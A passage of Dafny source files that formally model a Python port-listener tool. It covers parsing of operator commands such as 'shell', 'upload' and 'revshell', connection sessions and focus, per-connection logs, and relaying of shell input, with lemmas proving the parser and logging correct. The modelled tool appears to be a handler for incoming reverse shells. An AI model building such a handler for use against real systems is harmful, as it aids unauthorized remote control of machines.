  /** The match on verb and token count, over the tokens of a line: which
      command comes out for which verb and what its arguments are read
      from. */
  function Recognize(parts: seq<string>): (c: Command)
    ensures c == Nothing <==> parts == []
    ensures c.Add? ==> |parts| == 2 && parts[0] == "add" && ParseInt(parts[1]) == Some(c.port)
    ensures c.Remove? ==> |parts| == 2 && parts[0] == "remove" && ParseInt(parts[1]) == Some(c.port)
    ensures c.Connections? ==> |parts| == 2 && parts[0] == "connections" && ParseInt(parts[1]) == Some(c.port)
    ensures c.Switch? ==>
      && |parts| == (if c.connId.None? then 2 else 3) && parts[0] == "switch"
      && ParseInt(parts[1]) == Some(c.port)
      && (c.connId.Some? ==> ParseInt(parts[2]) == c.connId)
    ensures c.Send? ==> |parts| >= 2 && parts[0] == "send" && c.message == JoinWords(parts[1..])
    ensures c.Upload? ==> |parts| == 2 && parts[0] == "upload" && c.path == parts[1]
    ensures c.RevShell? ==>
      |parts| == 3 && parts[0] == "revshell" && c.target == parts[1] && ParseInt(parts[2]) == Some(c.port)
    ensures c == List <==> parts != [] && parts[0] == "list"
    ensures c == Shell <==> parts != [] && parts[0] == "shell"
    ensures c == StopShell <==> parts != [] && parts[0] == "stopshell"
    ensures c == Help <==> parts != [] && parts[0] == "help"
    ensures c == Exit <==> parts != [] && parts[0] == "exit"
  {
    if parts == [] then Nothing
    else
      var verb := parts[0];
      if verb == "add" && |parts| == 2 then
        match ParseInt(parts[1]) case Some(p) => Add(p) case None => BadPort
      else if verb == "remove" && |parts| == 2 then
        match ParseInt(parts[1]) case Some(p) => Remove(p) case None => BadPort
      else if verb == "list" then List
      else if verb == "connections" && |parts| == 2 then
        match ParseInt(parts[1]) case Some(p) => Connections(p) case None => BadPort
      else if verb == "switch" && (|parts| == 2 || |parts| == 3) then
        match ParseInt(parts[1])
        case None => BadSwitchArgs
        case Some(p) =>
          if |parts| == 2 then Switch(p, None)
          else match ParseInt(parts[2]) case Some(id) => Switch(p, Some(id)) case None => BadSwitchArgs
      else if verb == "send" && |parts| > 1 then Send(JoinWords(parts[1..]))
      else if verb == "shell" then Shell
      else if verb == "stopshell" then StopShell
      else if verb == "upload" && |parts| == 2 then Upload(parts[1])
      else if verb == "revshell" && |parts| == 3 then
        match ParseInt(parts[2]) case Some(p) => RevShell(parts[1], p) case None => BadPort
      else if verb == "help" then Help
      else if verb == "exit" then Exit
      else Invalid
  }

  /** "Invalid command!" is printed exactly for an unknown verb or a wrong
      token count. */
  lemma RecognizeInvalid(parts: seq<string>)
    ensures Recognize(parts) == Invalid <==> parts != [] && !KnownForm(parts)
  {
  }

  /** "Invalid port number!" is printed exactly when `int()` rejects the
      port of `add`, `remove`, `connections` or `revshell`. */
  lemma RecognizeBadPort(parts: seq<string>)
    ensures Recognize(parts) == BadPort <==> PortForm(parts) && ParseInt(parts[|parts| - 1]).None?
  {
  }

  /** "Invalid port number or connection ID!" is printed exactly when
      `int()` rejects an argument of `switch`. */
  lemma RecognizeBadSwitch(parts: seq<string>)
    ensures Recognize(parts) == BadSwitchArgs <==>
      && KnownForm(parts) && parts[0] == "switch"
      && !forall i :: 1 <= i < |parts| ==> ParseInt(parts[i]).Some?
  {
  }

  /** An empty or whitespace-only line does nothing. */
  lemma BlankLineDoesNothing(line: string)
    requires forall i :: 0 <= i < |line| ==> IsSpace(line[i])
    ensures ParseCommand(line) == Nothing
  {
    SplitSpaces(line);
  }

  /** Only the token sequence matters: collapsing the line's whitespace to
      single spaces does not change the command. */
  lemma SpacingIsIgnored(line: string)
    ensures ParseCommand(JoinWords(Split(line))) == ParseCommand(line)
  {
    SplitJoin(Split(line));
  }

  /** The message of `send` is its words after the verb, in order, each
      separated by one space. */
  lemma SendKeepsWords(line: string)
    requires ParseCommand(line).Send?
    ensures Split(ParseCommand(line).message) == Split(line)[1..]
    ensures ParseCommand(line).message == JoinWords(Split(line)[1..])
  {
    var parts := Split(line);
    RecognizeSendMessage(parts);
    forall i | 0 <= i < |parts[1..]| ensures IsWord(parts[1..][i]) {
      assert parts[1..][i] == parts[i + 1];
    }
    SplitJoin(parts[1..]);
  }

  lemma RecognizeSendMessage(parts: seq<string>)
    requires Recognize(parts).Send?
    ensures |parts| > 1 && Recognize(parts).message == JoinWords(parts[1..])
  {
  }

  /** The commands that reach the listener, with arguments a line can carry:
      tokens without whitespace, a message whose words are separated by
      single spaces. */
  predicate WellFormed(c: Command) {
    match c
    case Send(m) => Split(m) != [] && JoinWords(Split(m)) == m
    case Upload(path) => IsWord(path)
    case RevShell(target, _) => IsWord(target)
    case Nothing => false
    case BadPort => false
    case BadSwitchArgs => false
    case Invalid => false
    case _ => true
  }

  /** The tokens of the canonical line for a command. */
  function RenderWords(c: Command): seq<string>
    requires WellFormed(c)
  {
    match c
    case Add(p) => ["add", IntToString(p)]
    case Remove(p) => ["remove", IntToString(p)]
    case List => ["list"]
    case Connections(p) => ["connections", IntToString(p)]
    case Switch(p, None) => ["switch", IntToString(p)]
    case Switch(p, Some(id)) => ["switch", IntToString(p), IntToString(id)]
    case Send(m) => ["send"] + Split(m)
    case Shell => ["shell"]
    case StopShell => ["stopshell"]
    case Upload(path) => ["upload", path]
    case RevShell(target, p) => ["revshell", target, IntToString(p)]
    case Help => ["help"]
    case Exit => ["exit"]
  }

  /** The canonical line for a command, as an operator would type it. */
  function Render(c: Command): string
    requires WellFormed(c)
  {
    JoinWords(RenderWords(c))
  }

  lemma IntIsWord(i: int)
    ensures IsWord(IntToString(i))
  {
    var s := IntToString(i);
    if i < 0 {
      assert s == "-" + NatToString(-i);
      assert forall k :: 1 <= k < |s| ==> s[k] == NatToString(-i)[k - 1];
    }
  }

  lemma RecognizePort(verb: string, p: int)
    requires verb in {"add", "remove", "connections"}
    ensures Recognize([verb, IntToString(p)])
            == if verb == "add" then Add(p) else if verb == "remove" then Remove(p) else Connections(p)
  {
    ParseIntRoundTrip(p);
  }

  lemma RecognizeSwitch(p: int, id: Option<int>)
    ensures Recognize(if id.None? then ["switch", IntToString(p)] else ["switch", IntToString(p), IntToString(id.value)])
            == Switch(p, id)
  {
    ParseIntRoundTrip(p);
    if id.Some? {
      ParseIntRoundTrip(id.value);
    }
  }

  lemma RecognizeRevShell(target: string, p: int)
    ensures Recognize(["revshell", target, IntToString(p)]) == RevShell(target, p)
  {
    ParseIntRoundTrip(p);
  }

  lemma RecognizeSend(words: seq<string>)
    requires words != []
    ensures Recognize(["send"] + words) == Send(JoinWords(words))
  {
    assert (["send"] + words)[1..] == words;
  }

  lemma LettersAreWord(w: string)
    requires w != [] && forall i :: 0 <= i < |w| ==> 'a' <= w[i] <= 'z'
    ensures IsWord(w)
  {
  }

  lemma RenderedWords(c: Command)
    requires WellFormed(c)
    ensures forall i :: 0 <= i < |RenderWords(c)| ==> IsWord(RenderWords(c)[i])
  {
    match c {
      case Add(p) => LettersAreWord("add"); IntIsWord(p);
      case Remove(p) => LettersAreWord("remove"); IntIsWord(p);
      case List => LettersAreWord("list");
      case Connections(p) => LettersAreWord("connections"); IntIsWord(p);
      case Switch(p, id) =>
        LettersAreWord("switch");
        IntIsWord(p);
        if id.Some? {
          IntIsWord(id.value);
        }
      case Send(m) => SendWords(m);
      case Shell => LettersAreWord("shell");
      case StopShell => LettersAreWord("stopshell");
      case Upload(_) => LettersAreWord("upload");
      case RevShell(_, p) => LettersAreWord("revshell"); IntIsWord(p);
      case Help => LettersAreWord("help");
      case Exit => LettersAreWord("exit");
    }
  }

  lemma SendWords(m: string)
    ensures forall i :: 0 <= i < |["send"] + Split(m)| ==> IsWord((["send"] + Split(m))[i])
  {
    var words := ["send"] + Split(m);
    LettersAreWord("send");
    forall i | 1 <= i < |words| ensures IsWord(words[i]) {
      assert words[i] == Split(m)[i - 1];
    }
  }

  lemma RecognizeBare(c: Command)
    requires c.List? || c.Shell? || c.StopShell? || c.Help? || c.Exit?
    ensures Recognize(RenderWords(c)) == c
  {
  }

  lemma RecognizeUpload(path: string)
    ensures Recognize(["upload", path]) == Upload(path)
  {
  }

  lemma RecognizeRendered(c: Command)
    requires WellFormed(c)
    ensures Recognize(RenderWords(c)) == c
  {
    match c {
      case Add(p) => RecognizePort("add", p);
      case Remove(p) => RecognizePort("remove", p);
      case Connections(p) => RecognizePort("connections", p);
      case Switch(p, id) => RecognizeSwitch(p, id);
      case RevShell(target, p) => RecognizeRevShell(target, p);
      case Send(m) => RecognizeSend(Split(m));
      case Upload(path) => RecognizeUpload(path);
      case _ => RecognizeBare(c);
    }
  }

  /** Every well-formed command is recognised from its canonical line:
      verbs, token counts and integer arguments are read back exactly. */
  lemma ParseRender(c: Command)
    requires WellFormed(c)
    ensures ParseCommand(Render(c)) == c
  {
    RenderedWords(c);
    SplitJoin(RenderWords(c));
    RecognizeRendered(c);
  }

  /** What `run_cli` does with a typed line. */
  datatype Action = SendText(text: string) | RunCommand(command: Command)

  /** `run_cli`'s routing: with a focused connection a line not starting
      with `/` is sent verbatim; otherwise one leading `/` is dropped and
      the rest parsed as a command. */
  function Route(line: string, focused: bool): (a: Action)
    ensures a.SendText? <==> focused && !StartsWith(line, "/")
    ensures a.SendText? ==> a.text == line
  {
    if focused && !StartsWith(line, "/") then SendText(line)
    else if StartsWith(line, "/") then RunCommand(ParseCommand(line[1..]))
    else RunCommand(ParseCommand(line))
  }

  lemma JoinStart(words: seq<string>)
    requires words != [] && words[0] != []
    ensures JoinWords(words) != [] && JoinWords(words)[0] == words[0][0]
  {
  }

  /** A canonical command line starts with the verb's first letter. */
  lemma RenderStart(c: Command)
    requires WellFormed(c)
    ensures Render(c) != [] && 'a' <= Render(c)[0] <= 'z'
  {
    var words := RenderWords(c);
    assert 'a' <= words[0][0] <= 'z';
    JoinStart(words);
  }

  /** A line that starts with `/` runs the rest as a command, focused or not. */
  lemma RouteSlash(line: string, focused: bool)
    ensures Route("/" + line, focused) == RunCommand(ParseCommand(line))
  {
    assert StartsWith("/" + line, "/");
    assert ("/" + line)[1..] == line;
  }

  /** Without a focused connection, a line that does not start with `/` is
      parsed whole. */
  lemma RouteUnfocused(line: string)
    requires line == [] || line[0] != '/'
    ensures Route(line, false) == RunCommand(ParseCommand(line))
  {
    assert !StartsWith(line, "/");
  }

  /** A `/` in front of a command line reaches the parser whether or not a
      connection is focused; without a focus the `/` is optional. */
  lemma SlashReachesParser(c: Command, focused: bool)
    requires WellFormed(c)
    ensures Route("/" + Render(c), focused) == RunCommand(c)
    ensures Route(Render(c), false) == RunCommand(c)
  {
    var line := Render(c);
    ParseRender(c);
    RenderStart(c);
    RouteSlash(line, focused);
    RouteUnfocused(line);
  }

  /** The connections of the listened ports, as one set. */
  function ListenedConnections(sessions: map<int, TaskId>, connections: map<int, set<Connections.Connection>>): set<Connections.Connection> {
    set p, c | p in sessions && p in connections && c in connections[p] :: c
  }

  /** The `exit` branch: every listened port is removed, in the order the
      ports were added, and the listener stops running. */
  method Shutdown(listener: PortListener)
    requires listener.Valid()
    modifies listener`sessions, listener`sessionOrder, listener`cancelled, listener`running
    modifies ListenedConnections(listener.sessions, listener.connections)`active
    ensures listener.Valid()
    ensures listener.sessions == map[] && listener.sessionOrder == [] && !listener.running
    ensures listener.cancelled == old(listener.cancelled) + set p | p in old(listener.sessions) :: old(listener.sessions)[p]
    ensures listener.connections == old(listener.connections)
    ensures forall p, c :: p in old(listener.sessions) && p in listener.connections && c in listener.connections[p] ==> !c.active
  {
    ghost var tasks := listener.sessions;
    ghost var removed: set<int> := {};
    while listener.sessionOrder != []
      invariant listener.Valid()
      invariant listener.connections == old(listener.connections)
      invariant forall p :: p in listener.sessions ==> p in tasks && listener.sessions[p] == tasks[p]
      invariant forall p :: p in tasks ==> (p in removed <==> p !in listener.sessions)
      invariant removed <= tasks.Keys
      invariant listener.cancelled == old(listener.cancelled) + set p | p in removed :: tasks[p]
      invariant forall p, c :: p in removed && p in listener.connections && c in listener.connections[p] ==> !c.active
      decreases |listener.sessionOrder|
    {
      var port := listener.sessionOrder[0];
      assert port in listener.sessions;
      ghost var before := listener.cancelled;
      assert listener.connections == old(listener.connections);
      assert port in listener.connections ==> listener.connections[port] <= ListenedConnections(tasks, listener.connections);
      WithoutFirst(listener.sessionOrder);
      listener.RemovePort(port);
      removed := removed + {port};
      assert (set p | p in removed :: tasks[p]) == (set p | p in removed - {port} :: tasks[p]) + {tasks[port]};
    }
    var order := listener.sessionOrder;
    assert forall p :: p in listener.sessions ==> p in order;
    assert listener.sessions == map[];
    forall p | p in tasks ensures p in removed {
      assert p !in listener.sessions;
    }
    assert removed == tasks.Keys;
    listener.running := false;
  }

  lemma WithoutFirst(s: seq<int>)
    requires s != [] && NoDuplicates(s)
    ensures Without(s, s[0]) == s[1..]
  {
    WithoutAbsent(s[1..], s[0]);
  }

  lemma {:induction false} WithoutAbsent(s: seq<int>, x: int)
    requires x !in s
    ensures Without(s, x) == s
  {
    if s != [] {
      WithoutAbsent(s[1..], x);
    }
  }
}

=== FILE: listener.dfy ===
/** Session bookkeeping of `PortListener` (core/listener.py): which ports
    are listened on, which connections each port holds, which connection
    has the operator's focus, and what reaches the log files and the
    console. Tasks are opaque ids supplied by the caller, log files are
    sequences of lines keyed by their path, and the console lines that
    echo a connection's messages are kept as `shown`. */
module Listener {
  import opened Common
  import Utf8
  import Transfer

  import opened Connections

  /** An asyncio task, by an opaque id. */
  type TaskId = nat

  /** A line echoed to the console under a connection's address. */
  datatype Shown = Shown(addr: Address, text: string)

  /** One read of `reader.read(1024)`: bytes (empty at end of stream), or a
      raised error. */
  datatype Incoming = Received(data: seq<Byte>) | ReadFailed

  /** A row of the `list_sessions` table. */
  datatype SessionRow = SessionRow(port: int, active: bool, connections: nat, focused: bool)

  /** A row of the `list_connections` table; the connection time stands in
      for the duration since it, which needs the clock. */
  datatype ConnectionRow = ConnectionRow(id: nat, addr: Address, connectedTime: string, focused: bool)

  /** How `send_message_to_current` handled a line. */
  datatype Delivery = NoConnection | ToShell(ok: bool) | AsMessage(ok: bool)

  /** Every element of `s` except `x`, in order. */
  function Without(s: seq<int>, x: int): (r: seq<int>)
    ensures forall y :: y in r <==> y in s && y != x
    ensures NoDuplicates(s) ==> NoDuplicates(r)
    ensures x !in s ==> r == s
  {
    if s == [] then []
    else if s[0] == x then Without(s[1..], x)
    else
      var rest := Without(s[1..], x);
      assert NoDuplicates(s) ==> s[0] !in s[1..] && NoDuplicates(s[1..]);
      assert [s[0]] + s[1..] == s;
      [s[0]] + rest
  }

  lemma TailUnique(s: seq<int>)
    requires NoDuplicates(s) && s != []
    ensures NoDuplicates(s[1..]) && s[0] !in s[1..]
  {
    var t := s[1..];
    forall a, b | 0 <= a < b < |t| ensures t[a] != t[b] {
      assert t[a] == s[a + 1] && t[b] == s[b + 1];
    }
    forall j | 0 <= j < |t| ensures t[j] != s[0] {
      assert t[j] == s[j + 1];
    }
  }

  lemma CutCons(s: seq<int>, i: int)
    requires 0 < i < |s|
    ensures s[..i] + s[i + 1..] == [s[0]] + (s[1..][..i - 1] + s[1..][i..])
  {
    assert s[..i] == [s[0]] + s[1..][..i - 1];
    assert s[i + 1..] == s[1..][i..];
  }

  /** In a sequence without duplicates, deleting a key cuts out its one
      position and keeps the others in order. */
  lemma {:induction false} WithoutAt(s: seq<int>, i: int)
    requires NoDuplicates(s) && 0 <= i < |s|
    ensures Without(s, s[i]) == s[..i] + s[i + 1..]
  {
    TailUnique(s);
    if i == 0 {
      assert Without(s, s[0]) == Without(s[1..], s[0]);
      assert s[..0] + s[1..] == s[1..];
    } else {
      var x := s[i];
      assert s[1..][i - 1] == x;
      WithoutAt(s[1..], i - 1);
      CutCons(s, i);
    }
  }

  /** `connections.get(port, set())`. */
  function ConnectionsOf(connections: map<int, set<Connection>>, port: int): set<Connection> {
    if port in connections then connections[port] else {}
  }

  /** The lines of a log file; a file never written is empty. */
  function LogOf(logs: map<string, seq<string>>, path: string): seq<string> {
    if path in logs then logs[path] else []
  }

  /** The log file of a connection: `logs/port_<port>_<ip>_<peer port>.log`. */
  function LogPath(port: int, addr: Address): string {
    "logs/port_" + LogName(port, addr) + ".log"
  }

  /** The variable middle of a log path: `<port>_<ip>_<peer port>`. */
  function LogName(port: int, addr: Address): string {
    IntToString(port) + "_" + addr.host + "_" + IntToString(addr.port)
  }

  /** Index of the first `c` in `s`, or `|s|` if there is none. */
  function IndexOf(s: string, c: char): (i: nat)
    ensures i <= |s|
    ensures forall j :: 0 <= j < i ==> s[j] != c
    ensures i < |s| ==> s[i] == c
  {
    if s == [] then 0 else if s[0] == c then 0 else 1 + IndexOf(s[1..], c)
  }

  lemma NoUnderscore(n: int)
    ensures forall k :: 0 <= k < |IntToString(n)| ==> IntToString(n)[k] != '_'
  {
    if n < 0 {
      assert IntToString(n) == "-" + NatToString(-n);
    }
  }

  /** The first `c` of `s + [c] + t` is the one after `s` when `s` holds
      no `c`. */
  lemma IndexBefore(s: string, c: char, t: string)
    requires forall j :: 0 <= j < |s| ==> s[j] != c
    ensures IndexOf(s + [c] + t, c) == |s|
  {
    var u := s + [c] + t;
    assert u[|s|] == c;
    assert forall j :: 0 <= j < |s| ==> u[j] == s[j];
  }

  /** Splitting at the first `c`: when what precedes it holds no `c`, both
      parts are determined by the whole. */
  lemma SplitAtFirst(a1: string, b1: string, a2: string, b2: string, c: char)
    requires forall j :: 0 <= j < |a1| ==> a1[j] != c
    requires forall j :: 0 <= j < |a2| ==> a2[j] != c
    requires a1 + [c] + b1 == a2 + [c] + b2
    ensures a1 == a2 && b1 == b2
  {
    var u := a1 + [c] + b1;
    IndexBefore(a1, c, b1);
    IndexBefore(a2, c, b2);
    assert a1 == u[..|a1|] && a2 == u[..|a2|];
    assert b1 == u[|a1| + 1..] && b2 == u[|a2| + 1..];
  }

  /** Two connections write the same log file only if they have the same
      listening port and the same peer address: the port is everything up
      to the first `_`, which decimal numbers never contain, and the peer
      port everything after the last. */
  lemma LogPathInjective(port1: int, addr1: Address, port2: int, addr2: Address)
    requires LogPath(port1, addr1) == LogPath(port2, addr2)
    ensures port1 == port2 && addr1 == addr2
  {
    var s1, s2 := IntToString(port1), IntToString(port2);
    var t1, t2 := IntToString(addr1.port), IntToString(addr2.port);
    FrameInjective("logs/port_", LogName(port1, addr1), LogName(port2, addr2), ".log");
    NoUnderscore(port1);
    NoUnderscore(port2);
    NoUnderscore(addr1.port);
    NoUnderscore(addr2.port);
    Transfer.SplitAtLast(s1 + "_" + addr1.host, t1, s2 + "_" + addr2.host, t2, '_');
    SplitAtFirst(s1, addr1.host, s2, addr2.host, '_');
    IntToStringInjective(port1, port2);
    IntToStringInjective(addr1.port, addr2.port);
  }

  /** One log entry: `[<timestamp>] <message>` and a newline. */
  function LogLine(timestamp: string, message: string): string {
    "[" + timestamp + "] " + message + "\n"
  }

  /** The console lines replaying a buffer under an address, in order. */
  function Echoes(addr: Address, messages: seq<string>): (r: seq<Shown>)
    ensures |r| == |messages|
    ensures forall i :: 0 <= i < |r| ==> r[i] == Shown(addr, messages[i])
  {
    if messages == [] then [] else [Shown(addr, messages[0])] + Echoes(addr, messages[1..])
  }

  /** `order` lists the elements of `s`, each once: a set's iteration order. */
  ghost predicate Enumerates(order: seq<Connection>, s: set<Connection>) {
    NoDuplicates(order) && (set i | 0 <= i < |order| :: order[i]) == s
  }

  class PortListener {
    /** Ports being listened on, with their server tasks. */
    var sessions: map<int, TaskId>
    /** The keys of `sessions` in insertion order, as the dict iterates them. */
    var sessionOrder: seq<int>
    /** Live connections per port. */
    var connections: map<int, set<Connection>>
    var currentPort: Option<int>
    var currentConnection: Connection?
    var running: bool
    /** Tasks cancelled by `remove_port`. */
    var cancelled: set<TaskId>
    /** Contents of the log files, one entry per line, keyed by path. */
    var logs: map<string, seq<string>>
    /** Connection messages echoed to the console. */
    var shown: seq<Shown>

    /** `sessionOrder` enumerates the keys of `sessions` once each, and no
        port maps to an empty set of connections. */
    ghost predicate Valid()
      reads this
    {
      && NoDuplicates(sessionOrder)
      && (forall p :: p in sessionOrder <==> p in sessions)
      && (forall p :: p in connections ==> connections[p] != {})
    }

    /** The focused connection, as a set to frame it by. */
    function Focus(): set<Connection>
      reads this
    {
      if currentConnection == null then {} else {currentConnection}
    }

    /** `PortListener()`: nothing listened on, nothing focused, running. */
    constructor ()
      ensures sessions == map[] && sessionOrder == [] && connections == map[]
      ensures currentPort.None? && currentConnection == null && running
      ensures cancelled == {} && logs == map[] && shown == []
      ensures Valid()
    {
      sessions, sessionOrder, connections := map[], [], map[];
      currentPort, currentConnection := None, null;
      running := true;
      cancelled, logs, shown := {}, map[], [];
    }

    /** `add_port`: a port already listened on changes nothing; otherwise it
        gains the new server task `task`. No range check on the port. */
    method AddPort(port: int, task: TaskId)
      requires Valid()
      modifies this`sessions, this`sessionOrder
      ensures Valid()
      ensures port in old(sessions) ==> sessions == old(sessions) && sessionOrder == old(sessionOrder)
      ensures port !in old(sessions) ==>
        sessions == old(sessions)[port := task] && sessionOrder == old(sessionOrder) + [port]
    {
      if port in sessions {
        return;
      }
      sessions := sessions[port := task];
      sessionOrder := sessionOrder + [port];
    }

    /** `remove_port`: a port not listened on changes nothing; otherwise its
        task is cancelled, the port leaves `sessions`, and every connection
        on it is marked inactive. `connections` itself is left alone: the
        connections leave it when their read loops end. */
    method RemovePort(port: int)
      requires Valid()
      modifies this`sessions, this`sessionOrder, this`cancelled
      modifies (if port in sessions && port in connections then connections[port] else {})`active
      ensures Valid()
      ensures port !in old(sessions) ==>
        sessions == old(sessions) && sessionOrder == old(sessionOrder) && cancelled == old(cancelled)
      ensures port !in old(sessions) && port in connections ==>
        forall c :: c in connections[port] ==> c.active == old(c.active)
      ensures port in old(sessions) ==>
        && sessions == old(sessions) - {port}
        && sessionOrder == Without(old(sessionOrder), port)
        && cancelled == old(cancelled) + {old(sessions)[port]}
      ensures port in old(sessions) && port in connections ==>
        forall c :: c in connections[port] ==> !c.active
      ensures connections == old(connections)
    {
      if port !in sessions {
        return;
      }
      cancelled := cancelled + {sessions[port]};
      sessions := sessions - {port};
      sessionOrder := Without(sessionOrder, port);
      if port in connections {
        var pending := connections[port];
        while pending != {}
          modifies connections[port]`active
          invariant pending <= connections[port]
          invariant forall c :: c in connections[port] && c !in pending ==> !c.active
          decreases |pending|
        {
          var c :| c in pending;
          c.active := false;
          pending := pending - {c};
        }
      }
    }
  
    /** The entry of `handle_connection`: a new connection for an accepted
        peer joins the set of its port, creating the set if needed. */
    method Register(port: int, addr: Address, connectedTime: string, hostPlatform: string)
      returns (conn: Connection)
      requires Valid()
      modifies this`connections
      ensures Valid()
      ensures fresh(conn)
      ensures conn.addr == addr && conn.connectedTime == connectedTime && conn.platformType == hostPlatform
      ensures conn.active && conn.buffer == [] && !conn.shellMode && conn.shellProcess.None? && conn.Valid()
      ensures connections == old(connections)[port := ConnectionsOf(old(connections), port) + {conn}]
    {
      conn := new Connection(addr, connectedTime, hostPlatform);
      connections := connections[port := ConnectionsOf(connections, port) + {conn}];
    }

    /** One pass of the `while conn.active` loop of `handle_connection` for
        `conn`, registered on `port`; the result says whether the loop goes
        on. An empty or failed read ends it. In shell mode the chunk goes to
        `handle_shell_data` and a failure stops the shell without ending the
        loop. Otherwise a chunk that is valid UTF-8 is buffered, echoed if
        the connection has the focus, and logged with `timestamp`; a log
        write that fails (`logOk` false) ends the loop; any other chunk is
        skipped. */
    method ReadStep(conn: Connection, port: int, incoming: Incoming, timestamp: string, logOk: bool,
                    shellWriteOk: bool, shellReads: seq<ShellRead>)
      returns (more: bool)
      modifies conn`buffer, conn`shellMode, conn`shellProcess, conn`ptyInput, conn`shellInput
      modifies this`logs, this`shown
      ensures incoming.ReadFailed? || incoming.data == [] ==>
        !more && unchanged(conn) && logs == old(logs) && shown == old(shown)
      ensures incoming.Received? && incoming.data != [] && old(conn.shellMode) ==>
        && more && conn.buffer == old(conn.buffer) && logs == old(logs) && shown == old(shown)
        && (old(conn.shellProcess).None? ==> unchanged(conn))
        && (old(conn.shellProcess).Some? && conn.platformType != "windows" ==>
              && conn.shellInput == old(conn.shellInput)
              && conn.ptyInput == old(conn.ptyInput) + (if shellWriteOk then WithNewline(incoming.data) else [])
              && if shellWriteOk && !DrainFails(shellReads)
                 then conn.shellMode && conn.shellProcess == old(conn.shellProcess)
                 else !conn.shellMode && conn.shellProcess.None?)
      ensures incoming.Received? && incoming.data != [] && !old(conn.shellMode) ==>
        && unchanged(conn`shellMode, conn`shellProcess, conn`ptyInput, conn`shellInput)
        && match Utf8.Decode(incoming.data)
           case None => more && unchanged(conn) && logs == old(logs) && shown == old(shown)
           case Some(message) =>
             && conn.buffer == old(conn.buffer) + [message]
             && shown == old(shown) + (if currentPort == Some(port) && currentConnection == conn
                                       then [Shown(conn.addr, message)] else [])
             && more == logOk
             && logs == if logOk then old(logs)[LogPath(port, conn.addr) := LogOf(old(logs), LogPath(port, conn.addr)) + [LogLine(timestamp, message)]]
                         else old(logs)
    {
      if incoming.ReadFailed? || incoming.data == [] {
        return false;
      }
      var data := incoming.data;
      more := true;
      if conn.shellMode {
        var ok, output;
        ghost var attempts;
        ok, output, attempts := conn.HandleShellData(data, shellWriteOk, shellReads);
        if !ok {
          conn.StopShell();
        }
        if old(conn.shellProcess).Some? && conn.platformType != "windows" && shellWriteOk {
          DrainFailsMatches(shellReads, output, attempts, !ok);
        }
        return;
      }
      var decoded := Utf8.Decode(data);
      if decoded.None? {
        return;
      }
      var message := decoded.value;
      conn.buffer := conn.buffer + [message];
      if currentPort == Some(port) && currentConnection == conn {
        shown := shown + [Shown(conn.addr, message)];
      }
      if !logOk {
        return false;
      }
      var path := LogPath(port, conn.addr);
      logs := logs[path := LogOf(logs, path) + [LogLine(timestamp, message)]];
    }
  
    /** The `finally` block of `handle_connection`: a connection in shell
        mode has its shell stopped, and the connection leaves its port's set;
        the port's key goes exactly when the set becomes empty. The focus is
        left as it was, even when it is this connection. */
    method Teardown(conn: Connection, port: int)
      requires Valid()
      requires port in connections && conn in connections[port]
      modifies conn`shellMode, conn`shellProcess, this`connections
      ensures Valid()
      ensures old(conn.shellMode) && old(conn.shellProcess).Some? ==> !conn.shellMode && conn.shellProcess.None?
      ensures !(old(conn.shellMode) && old(conn.shellProcess).Some?) ==> unchanged(conn`shellMode, conn`shellProcess)
      ensures old(conn.Valid()) ==> conn.Valid() && !conn.shellMode
      ensures var rest := old(connections)[port] - {conn};
              connections == if rest == {} then old(connections) - {port} else old(connections)[port := rest]
      ensures conn !in ConnectionsOf(connections, port)
      ensures forall p :: p != port ==> ConnectionsOf(connections, p) == ConnectionsOf(old(connections), p)
    {
      if conn.shellMode {
        conn.StopShell();
      }
      var rest := connections[port] - {conn};
      if rest == {} {
        connections := connections - {port};
      } else {
        connections := connections[port := rest];
      }
    }

    /** `switch_session`: a port not listened on, or without connections,
        leaves the focus alone. Otherwise the port takes the focus before
        the connection id is checked; with no id the first connection of the
        enumeration `order` is focused; an id in range focuses that position
        and replays its buffer to the console, in order; an id out of range
        leaves the focused connection as it was. */
    method SwitchSession(port: int, connId: Option<int>, order: seq<Connection>)
      requires port in connections ==> Enumerates(order, connections[port])
      modifies this`currentPort, this`currentConnection, this`shown
      ensures port !in sessions || port !in connections || connections[port] == {} ==>
        unchanged(this`currentPort, this`currentConnection, this`shown)
      ensures port in sessions && port in connections && connections[port] != {} ==>
        && currentPort == Some(port)
        && (connId.None? ==> currentConnection == order[0] && shown == old(shown))
        && (connId.Some? && 0 <= connId.value < |order| ==>
              && currentConnection == order[connId.value]
              && shown == old(shown) + Echoes(order[connId.value].addr, order[connId.value].buffer))
        && (connId.Some? && !(0 <= connId.value < |order|) ==>
              currentConnection == old(currentConnection) && shown == old(shown))
    {
      if port !in sessions || port !in connections || connections[port] == {} {
        return;
      }
      assert order != [] by {
        assert (set i | 0 <= i < |order| :: order[i]) != {};
      }
      currentPort := Some(port);
      match connId {
        case None =>
          currentConnection := order[0];
        case Some(id) =>
          if 0 <= id < |order| {
            var chosen := order[id];
            currentConnection := chosen;
            var k := 0;
            while k < |chosen.buffer|
              modifies this`shown
              invariant 0 <= k <= |chosen.buffer|
              invariant shown == old(shown) + Echoes(chosen.addr, chosen.buffer[..k])
            {
              shown := shown + [Shown(chosen.addr, chosen.buffer[k])];
              k := k + 1;
              assert Echoes(chosen.addr, chosen.buffer[..k])
                  == Echoes(chosen.addr, chosen.buffer[..k - 1]) + [Shown(chosen.addr, chosen.buffer[k - 1])];
            }
            assert chosen.buffer[..k] == chosen.buffer;
          }
      }
    }

    /** `send_message_to_current`: without a focused connection nothing is
        sent. In shell mode the encoded line goes to `handle_shell_data`;
        otherwise it goes to `send_message`, which in message mode writes it
        to the socket. */
    method SendMessageToCurrent(message: string, writeOk: bool, shellReads: seq<ShellRead>)
      returns (delivery: Delivery)
      modifies Focus()`sent, Focus()`shellInput, Focus()`ptyInput
      ensures currentConnection == null ==> delivery == NoConnection
      ensures currentConnection != null && old(currentConnection.shellMode) ==>
        && delivery.ToShell?
        && currentConnection.sent == old(currentConnection.sent)
        && (old(currentConnection.shellProcess).None? ==> !delivery.ok)
        && (old(currentConnection.shellProcess).Some? && currentConnection.platformType != "windows" ==>
              && currentConnection.ptyInput == old(currentConnection.ptyInput)
                   + (if message != [] && writeOk then WithNewline(Utf8.Encode(message)) else [])
              && (delivery.ok <==> (message == [] || writeOk) && !DrainFails(shellReads)))
      ensures currentConnection != null && !old(currentConnection.shellMode) ==>
        && delivery == AsMessage(writeOk)
        && currentConnection.sent == old(currentConnection.sent) + (if writeOk then Utf8.Encode(message) else [])
        && currentConnection.shellInput == old(currentConnection.shellInput)
        && currentConnection.ptyInput == old(currentConnection.ptyInput)
    {
      var conn := currentConnection;
      if conn == null {
        return NoConnection;
      }
      if conn.shellMode {
        var data := Utf8.Encode(message);
